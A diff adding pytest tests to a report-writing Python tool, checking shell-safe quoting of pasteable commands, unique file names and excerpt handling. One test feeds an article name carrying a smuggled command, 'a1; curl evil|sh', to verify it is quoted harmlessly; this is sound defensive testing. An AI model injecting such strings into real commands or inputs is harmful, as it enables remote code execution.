@@ -10,7 +10,7 @@ from zipfile import ZipFile
 import pyarrow as pa
 import pytest
 
-from framing.errors import UsageError
+from framing.errors import ResultsError, UsageError
 from framing.report import write_report
 from framing.report.manifest import FORMAT, digest, pack, read_manifest, stale
 from sample_tables import sample_tables
@@ -154,6 +154,30 @@ def test_articles_that_nothing_cites_get_no_page_and_every_link_still_lands(tmp_
     _every_link_lands(tmp_path)
 
 
+def test_a_command_to_paste_is_one_word_for_the_shell_and_none_where_it_hides_something(tmp_path: Path) -> None:
+    for name, command in {
+        "a1; curl evil|sh #$(id)": "framing show 'a1; curl evil|sh #$(id)'",
+        "--report=x": "framing show -- --report=x",
+        "a\u202eb": None,
+        "a\nb": None,
+    }.items():
+        tables = sample_tables()
+        rows = [
+            {**r, "article": name if r["article"] == "a4" else r["article"]} for r in tables["articles"].to_pylist()
+        ]
+        tables["articles"] = pa.Table.from_pylist(rows, schema=tables["articles"].schema)
+        write_report(tables, tmp_path, layout="folder", articles="cited")
+        page = (tmp_path / "sources" / "unknown.html").read_text("utf-8")
+        found = [html.unescape(code) for code in re.findall("<code>(framing show .*?)</code>", page, re.DOTALL)]
+        assert found == ([command] if command else [])
+
+
+def test_two_pages_never_have_one_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("framing.report.write.slug", lambda _: "same")
+    with pytest.raises(ResultsError, match=r"same\.html: two ids make the same file name"):
+        write_report(sample_tables(), tmp_path, layout="folder")
+
+
 @pytest.mark.parametrize("layout", ["single", "folder"])
 def test_excerpts_show_the_judged_sentences_and_no_other_text(tmp_path: Path, layout: str) -> None:
     write_report(sample_tables(), tmp_path, layout=layout, excerpts=True)
@@ -178,6 +202,19 @@ def test_excerpts_show_of_what_is_told_twice_only_what_is_judged(tmp_path: Path,
         everything = "".join(p.read_text("utf-8") for p in (tmp_path / str(excerpts)).rglob("*.*"))
         assert (told in html.unescape(re.sub(r"<[^>]+>", "", everything))) != excerpts
     assert not (tmp_path / "True" / "data" / "tellings.tsv").exists()
+
+
+def test_excerpts_show_of_what_is_left_out_only_words_of_an_example_that_may_be_shown(tmp_path: Path) -> None:
+    tables = sample_tables()
+    rows = [
+        {**r, "what": "the fullest rendering"} if r["kind"] == "quotation" else r
+        for r in tables["omissions"].to_pylist()
+    ]
+    tables["omissions"] = pa.Table.from_pylist(rows, schema=tables["omissions"].schema)
+    for excerpts in (False, True):
+        write_report(tables, tmp_path / str(excerpts), layout="folder", excerpts=excerpts)
+        page = (tmp_path / str(excerpts) / "events" / "visit-2025.html").read_text("utf-8")
+        assert ("the fullest rendering" in page) != excerpts
 
 
 def test_one_file_that_would_be_too_large_becomes_a_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
